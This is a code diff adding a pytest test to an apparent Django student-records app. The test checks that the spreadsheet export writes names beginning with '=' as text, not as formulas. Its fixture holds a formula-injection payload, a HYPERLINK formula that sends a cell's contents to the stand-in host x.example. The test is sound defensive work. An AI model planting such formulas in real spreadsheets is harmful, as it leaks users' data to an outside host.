@@ -731,3 +731,19 @@ def test_student_update_saves_only_changes_and_names_them_in_audit(rw):
     assert event.extra == {"changed": ["class_name", "grade"]}
     with pytest.raises(TypeError):
         services.student_update(actor=rw.counselor, student=student, school=rw.other_school)
+
+
+def test_export_never_writes_a_formula(world, client):
+    """A name saved with a leading '=' (e.g. typed in by hand) is exported as plain text."""
+    from diemtua.students.models import Student
+
+    Student.objects.filter(pk=world.student_a.pk).update(
+        full_name='=HYPERLINK("http://x.example/?"&C2,"Mở")'
+    )
+    student = Student.objects.get(pk=world.student_a.pk)
+    client.force_login(world.users["counselor"])
+    response = client.get(reverse("student_export"), {"class": student.class_name})
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
+    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)
+    assert all(c.data_type != "f" for c in cells)
